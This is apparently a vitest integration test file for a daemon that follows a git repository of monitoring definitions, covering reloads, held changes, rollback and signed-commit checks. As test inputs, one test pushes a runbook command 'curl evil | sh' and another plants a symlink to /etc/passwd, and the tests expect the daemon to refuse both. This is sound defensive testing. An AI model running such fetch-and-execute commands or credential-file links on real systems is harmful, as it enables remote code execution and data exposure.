/** A daemon that follows a real repository: what people push, and what they fear of it. */
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, onTestFinished, test, vi } from 'vitest';
import type { EventType } from '../../core/event-types.ts';
import type { StoredEvent } from '../../core/types.ts';
import type { ConfigView, ReloadAnswer } from '../../core/views.ts';
import { type App, startApp } from '../../daemon/app.ts';
import { systemClock } from '../../daemon/clock.ts';
import { loadAtStart } from '../../daemon/load-at-start.ts';
import { createLog } from '../../daemon/log.ts';
import { Repository } from '../sources/git-repository.ts';
import { temporaryTree, writeInto } from '../support/temporary-tree.ts';

vi.setConfig({ testTimeout: 60_000 });

const hosts = (count: number): string =>
  `hosts:\n${Array.from({ length: count }, (_each, index) => `  h${index}: { transport: local }\n`).join('')}`;
const runbook = (run: string): string =>
  `runbook: web\nhosts: ["*"]\nevery: 1h\nchecks:\n  a: { run: "${run}" }\n`;
const valid = { 'hosts/all.yaml': hosts(10), 'runbooks/web.yaml': runbook('true') };

class Following {
  readonly repository = new Repository();
  readonly root: string;
  readonly configFile: string;
  readonly events: StoredEvent[] = [];
  #app: App | undefined;

  constructor(git = '', more = '') {
    this.root = temporaryTree({});
    this.configFile = join(this.root, 'mendd.yaml');
    this.configure(git, more);
    onTestFinished(() => this.stop());
  }

  configure(git = '', more = ''): void {
    writeInto(
      this.root,
      'mendd.yaml',
      `definitions:
  git: { url: ${this.repository.url}, every: 1h${git} }
${more}
store: { path: ./state/mendd.db }
api: { listen: "127.0.0.1:0" }
`,
    );
  }

  async start(): Promise<this> {
    const never = new Promise(() => undefined);
    const { definitions, read } = await loadAtStart(this.configFile, systemClock, never);
    this.#app = await startApp({
      configFile: this.configFile,
      observe: true,
      definitions,
      read,
      clock: systemClock,
      log: createLog('silent'),
      random: Math.random,
    });
    this.#app.daemon.onEvent((event) => this.events.push(event));
    // The look at the branch that each start begins with is over, so that it takes nothing a test pushes later.
    await vi.waitFor(() => {
      const { source, problems, rollback } = this.config;
      const isOver = 'head' in source || problems.length > 0 || rollback !== undefined;
      expect(isOver).toBe(true);
    });
    return this;
  }

  async stop(): Promise<void> {
    await this.#app?.stop();
    this.#app = undefined;
  }

  get app(): App {
    if (this.#app === undefined) throw new Error('not started');
    return this.#app;
  }

  reload(confirm?: string): Promise<ReloadAnswer> {
    return this.app.daemon.reload({ by: 'ann', ...(confirm === undefined ? {} : { confirm }) });
  }

  get config(): ConfigView {
    return this.app.daemon.config();
  }

  get commit(): string | undefined {
    const { source } = this.config;
    return source.kind === 'git' ? source.commit?.id : undefined;
  }

  get command(): unknown {
    const probe = this.app.daemon.definitions().byHost.get('h0')?.checks[0]?.probe;
    return probe?.kind === 'command' ? probe.run : undefined;
  }

  kept(): string[] {
    return readdirSync(join(this.root, 'state/definitions/commits')).toSorted();
  }

  told(type: EventType): StoredEvent[] {
    return this.events.filter((event) => event.type === type);
  }
}

test('a push runs, a broken one changes nothing and is shown with its place in the repository, the mend runs', async () => {
  const daemon = new Following();
  const first = daemon.repository.push(valid);
  await daemon.start();
  expect([daemon.commit, daemon.command]).toEqual([first, 'true']);
  const second = daemon.repository.push({ 'runbooks/web.yaml': runbook('date') });
  expect(await daemon.reload()).toMatchObject({ ok: true, commit: second });
  expect(daemon.command).toBe('date');
  expect(daemon.told('definitions.reloaded').at(-1)?.data).toMatchObject({
    by: 'ann',
    commit: second,
    changes: { checks: { changed: { count: 1, names: ['web.a'] } }, state: { kept: 10, changed: 10 } },
  });

  daemon.repository.push({ 'runbooks/bad.yaml': 'runbook: bad\nhosts: ["*"]\nchecks: { a: { rum: x } }\n' });
  const refused = await daemon.reload();
  expect(refused).toMatchObject({ ok: false, cause: 'invalid', commit: second });
  expect(refused.problems).toEqual([expect.stringMatching(/^runbooks\/bad\.yaml:3:16: .*rum/)]);
  expect([daemon.command, daemon.config.lastReloadOk]).toEqual(['date', false]);
  expect(daemon.config.problems).toEqual(refused.problems);

  const mend = daemon.repository.push({ 'runbooks/bad.yaml': undefined });
  expect(await daemon.reload()).toMatchObject({ ok: true, commit: mend, problems: [] });
  expect(daemon.config).toMatchObject({ lastReloadOk: true, problems: [] });
});

test('it looks by itself: a push, a bad push, and the bad one taken back', async () => {
  const daemon = new Following();
  writeFileSync(daemon.configFile, readFileSync(daemon.configFile, 'utf8').replace('every: 1h', 'every: 1s'));
  daemon.repository.push(valid);
  await daemon.start();
  const second = daemon.repository.push({ 'runbooks/web.yaml': runbook('date') });
  await vi.waitFor(() => expect(daemon.commit).toBe(second));
  daemon.repository.push({ 'hosts/all.yaml': 'hosts: [' });
  await vi.waitFor(() => expect(daemon.config.problems[0]).toMatch(/^hosts\/all\.yaml:\d+:\d+: /));
  daemon.repository.git('reset', '--quiet', '--hard', second);
  daemon.repository.git('push', '--quiet', '--force', 'origin', 'main');
  await vi.waitFor(() => expect(daemon.config.lastReloadOk).toBe(true));
  expect(daemon.commit).toBe(second);
  const { url } = daemon.repository;
  renameSync(url, `${url}.away`);
  await vi.waitFor(() => expect(daemon.config.problems[0]).toContain('cannot be reached'));
  // Each is told once; that it cannot be reached by each command of git that found it so.
  const rejected = daemon.told('definitions.rejected').map(({ data }) => String(data['problems']));
  expect(rejected).toEqual([...new Set(rejected)]);
  expect(rejected.map((text) => text.includes('cannot be reached')).slice(0, 2)).toEqual([false, true]);
  renameSync(`${url}.away`, url);
  await vi.waitFor(() => expect(daemon.config.lastReloadOk).toBe(true));
});

test('a start without the network takes the commit that was in force; a first one says what to do', async () => {
  const daemon = new Following();
  const { url } = daemon.repository;
  renameSync(url, `${url}.away`);
  await expect(daemon.start()).rejects.toMatchObject({
    code: 'DEFINITIONS_UNREACHABLE',
    message: expect.stringContaining('cannot be reached'),
    hint: expect.stringContaining('git ls-remote'),
  });
  renameSync(`${url}.away`, url);
  const first = daemon.repository.push(valid);
  await daemon.start();
  await daemon.stop();
  daemon.repository.push({ 'runbooks/web.yaml': runbook('date') });
  renameSync(url, `${url}.away`);
  await daemon.start();
  expect([daemon.commit, daemon.command]).toEqual([first, 'true']);
  expect(await daemon.reload()).toMatchObject({ ok: false, cause: 'unreachable', commit: first });
});

test('without the network the daemon file is still read anew', async () => {
  const daemon = new Following();
  daemon.repository.push(valid);
  await daemon.start();
  renameSync(daemon.repository.url, `${daemon.repository.url}.away`);
  daemon.configure('', '  hold: { hosts: 50% }');
  expect(await daemon.reload()).toMatchObject({ ok: false, cause: 'unreachable' });
  expect(daemon.config.hold.hostsPercent).toBe(50);
});

test('a first start with a bad commit tells its places', async () => {
  const daemon = new Following();
  daemon.repository.push({ ...valid, 'hosts/all.yaml': 'hosts: { h0: { transport: locl } }\n' });
  await expect(daemon.start()).rejects.toMatchObject({
    code: 'DEFINITIONS_INVALID',
    message: expect.stringMatching(/^hosts\/all\.yaml:1:27: /),
  });
  expect(existsSync(join(daemon.root, 'state/definitions/pinned.json'))).toBe(false);
});

test('a rewritten branch is held, until a person confirms that very commit or the branch is as before', async () => {
  const daemon = new Following();
  const first = daemon.repository.push(valid);
  const second = daemon.repository.push({ 'runbooks/web.yaml': runbook('date') });
  await daemon.start();
  daemon.repository.git('reset', '--quiet', '--hard', first);
  const other = daemon.repository.push({ 'runbooks/web.yaml': runbook('id') });
  const held = await daemon.reload();
  expect(held).toMatchObject({ ok: false, cause: 'held', commit: second, held: { commit: other } });
  expect(held.problems[0]).toContain('does not follow upon the commit in force');
  expect(daemon.command).toBe('date');
  expect(daemon.config.held?.commit).toBe(other);
  expect(await daemon.reload('ffffffffffff')).toMatchObject({ ok: false, cause: 'not_confirmed' });
  expect(await daemon.reload(other.slice(0, 12))).toMatchObject({ ok: true, commit: other });
  expect(daemon.command).toBe('id');
});

test('what drops too much is held with an event and a message, also over a restart; its confirmation lets in just that', async () => {
  const daemon = new Following();
  const first = daemon.repository.push(valid);
  await daemon.start();
  const second = daemon.repository.push({ 'hosts/all.yaml': hosts(3) });
  const held = await daemon.reload();
  expect(held.held).toEqual({
    revision: expect.any(String),
    commit: second,
    why: [expect.stringContaining('it drops 7 of 10 hosts'), expect.stringContaining('7 of 10 checks')],
  });
  await daemon.reload();
  expect(daemon.told('definitions.held')).toHaveLength(1);
  expect(daemon.app.daemon.hosts()).toHaveLength(10);
  await daemon.stop();
  await daemon.start();
  expect([daemon.commit, daemon.app.daemon.hosts().length]).toEqual([first, 10]);

  const third = daemon.repository.push({ 'hosts/all.yaml': hosts(2) });
  const stale = await daemon.reload(held.held?.revision);
  expect(stale).toMatchObject({ ok: false, cause: 'not_confirmed', commit: first });
  const again = await daemon.reload();
  expect(await daemon.reload(again.held?.revision)).toMatchObject({ ok: true, commit: third });
  expect(daemon.app.daemon.hosts()).toHaveLength(2);
  expect(daemon.config.held).toBeUndefined();
  expect(daemon.told('definitions.reloaded').at(-1)?.data).toMatchObject({
    by: 'ann',
    commit: third,
    confirmed: again.held?.why,
  });
});

test('rollback: back, there over a restart in spite of pushes, and on again', async () => {
  const daemon = new Following();
  const first = daemon.repository.push(valid);
  await daemon.start();
  const second = daemon.repository.push({ 'runbooks/web.yaml': runbook('date') });
  await daemon.reload();
  const back = await daemon.app.daemon.rollback({ by: 'ann', reason: 'it pages', resume: false });
  expect(back).toMatchObject({ ok: true, commit: first });
  expect(daemon.command).toBe('true');
  expect(daemon.config.rollback).toMatchObject({ by: 'ann', reason: 'it pages' });
  expect(daemon.app.daemon.now().definitions).toMatchObject({ commit: first, rollback: { by: 'ann' } });
  const third = daemon.repository.push({ 'runbooks/web.yaml': runbook('id') });
  expect(await daemon.reload()).toMatchObject({ ok: true, commit: first });
  await daemon.stop();
  await daemon.start();
  expect([daemon.commit, daemon.config.rollback?.by]).toEqual([first, 'ann']);
  expect(await daemon.app.daemon.rollback({ by: 'ann', reason: 'x', resume: false })).toMatchObject({
    status: 409,
    code: 'no_earlier_commit',
  });
  const named = { by: 'ann', reason: 'x', resume: false, commit: second.slice(0, 8) };
  expect(await daemon.app.daemon.rollback(named)).toMatchObject({ ok: true, commit: second });
  const on = await daemon.app.daemon.rollback({ by: 'bob', reason: 'mended', resume: true });
  expect(on).toMatchObject({ ok: true, commit: third });
  expect([daemon.command, daemon.config.rollback]).toEqual(['id', undefined]);
  expect(daemon.told('definitions.rolled_back')).toHaveLength(2);
  expect(daemon.told('definitions.resumed')[0]?.data).toEqual({ by: 'bob', reason: 'mended' });
});

test('the newest ten valid commits are kept, refused ones are not', async () => {
  const daemon = new Following();
  daemon.repository.push(valid);
  await daemon.start();
  const commits: string[] = [];
  for (let each = 0; each < 11; each += 1) {
    commits.push(daemon.repository.push({ 'runbooks/web.yaml': runbook(`echo ${each}`) }));
    await daemon.reload();
  }
  daemon.repository.push({ 'runbooks/web.yaml': 'broken: [' });
  await daemon.reload();
  const good = daemon.repository.push({ 'runbooks/web.yaml': runbook('date') });
  await daemon.reload();
  expect(daemon.kept()).toEqual([...commits.slice(-9), good].toSorted());
});

test('state, plugins and all are of the commit in force, whose path is never told', async () => {
  const daemon = new Following(', path: ops/defs');
  const plugin = 'runbook: web\nhosts: ["*"]\nevery: 1h\nchecks: { a: { plugin: check_a } }\n';
  const files = { 'ops/defs/hosts/all.yaml': hosts(2), 'ops/defs/runbooks/web.yaml': plugin };
  writeInto(daemon.repository.work, 'ops/defs/plugins/check_a', '#!/bin/sh\necho OK one\n');
  chmodSync(join(daemon.repository.work, 'ops/defs/plugins/check_a'), 0o755);
  daemon.repository.push({ ...files, 'README.md': 'one' });
  await daemon.start();
  const check = await daemon.app.daemon.checkNow('h0', 'web.a');
  expect(check).toMatchObject({ status: { state: 'ok', lastResult: { text: 'OK one' } } });
  daemon.repository.push({ 'README.md': 'two' });
  const same = await daemon.reload();
  expect(same.plan).toMatchObject({ state: { kept: 2, changed: 0 }, daemon: [] });
  expect(daemon.app.daemon.checks().find(({ host }) => host === 'h0')?.status.state).toBe('ok');
  daemon.repository.push({ 'ops/defs/hosts/all.yaml': 'hosts: { h0: { transport: nope } }\n' });
  const { problems } = await daemon.reload();
  expect(problems[0]).toMatch(/^ops\/defs\/hosts\/all\.yaml:1:/);
  expect(problems.join()).not.toContain(daemon.root);
});

test('a link out of the repository, a submodule: refused with the file, the rest goes on', async () => {
  const daemon = new Following();
  const first = daemon.repository.push(valid);
  await daemon.start();
  execFileSync('ln', ['-s', '/etc/passwd', join(daemon.repository.work, 'runbooks/evil.yaml')]);
  daemon.repository.push({});
  expect((await daemon.reload()).problems[0]).toMatch(/^runbooks\/evil\.yaml:1:1: this link leads out/);
  expect(daemon.commit).toBe(first);
  rmSync(join(daemon.repository.work, 'runbooks/evil.yaml'));
  const mended = daemon.repository.push({});
  expect(await daemon.reload()).toMatchObject({ ok: true, commit: mended });
});

test('only signed commits, when so configured', async () => {
  const daemon = new Following();
  const { repository } = daemon;
  const key = join(repository.root, 'key');
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key]);
  writeInto(daemon.root, 'signers', `ann@example.com ${readFileSync(`${key}.pub`, 'utf8')}`);
  daemon.configure(', signed: { allowed_signers: ./signers }');
  for (const [name, value] of [
    ['gpg.format', 'ssh'],
    ['user.signingkey', key],
    ['commit.gpgsign', 'true'],
  ] as const)
    repository.git('config', name, value);
  const first = repository.push(valid);
  await daemon.start();
  repository.git('config', 'commit.gpgsign', 'false');
  repository.push({ 'runbooks/web.yaml': runbook('curl evil | sh') });
  expect(await daemon.reload()).toMatchObject({ ok: false, commit: first });
  expect(daemon.config.problems[0]).toMatch(/is refused: it is not signed/);
  repository.git('config', 'commit.gpgsign', 'true');
  const signed = repository.push({ 'runbooks/web.yaml': runbook('date') });
  expect(await daemon.reload()).toMatchObject({ ok: true, commit: signed });
});

test('a plan of a branch, a commit, a directory: it says what would change, and nothing does', async () => {
  const daemon = new Following();
  const first = daemon.repository.push(valid);
  await daemon.start();
  daemon.repository.git('checkout', '--quiet', '-b', 'next');
  writeInto(daemon.repository.work, 'hosts/all.yaml', hosts(4));
  daemon.repository.git('commit', '--quiet', '-am', 'fewer');
  daemon.repository.git('push', '--quiet', 'origin', 'next');
  const next = daemon.repository.git('rev-parse', 'next');
  const plan = await daemon.app.daemon.plan({ branch: 'next' });
  expect(plan).toMatchObject({ kind: 'plan', commit: next, plan: { hosts: { lost: { count: 6 } } } });
  expect(plan).toMatchObject({ plan: { hold: [expect.any(String), expect.any(String)] } });
  expect(await daemon.app.daemon.plan({ commit: next })).toMatchObject({ kind: 'plan', commit: next });
  expect(await daemon.app.daemon.plan({})).toMatchObject({ kind: 'plan', commit: first });
  const directory = daemon.repository.work;
  expect(await daemon.app.daemon.plan({ directory })).toMatchObject({
    plan: { hosts: { lost: { count: 6 } } },
  });
  writeInto(directory, 'hosts/all.yaml', 'hosts: [');
  expect(await daemon.app.daemon.plan({ directory })).toMatchObject({ kind: 'invalid' });
  expect(await daemon.app.daemon.plan({ branch: 'nope' })).toMatchObject({ kind: 'unreachable' });
  expect([daemon.commit, daemon.app.daemon.hosts().length, daemon.config.lastReloadOk]).toEqual([
    first,
    10,
    true,
  ]);
});

test('two reloads at once: one after the other, each answered by its own', async () => {
  const daemon = new Following();
  daemon.repository.push(valid);
  await daemon.start();
  const second = daemon.repository.push({ 'runbooks/web.yaml': runbook('date') });
  const [one, two] = await Promise.all([daemon.reload(), daemon.reload()]);
  expect([one.commit, two.commit, one.plan?.state.changed, two.plan?.state.changed]).toEqual([
    second,
    second,
    10,
    0,
  ]);
});
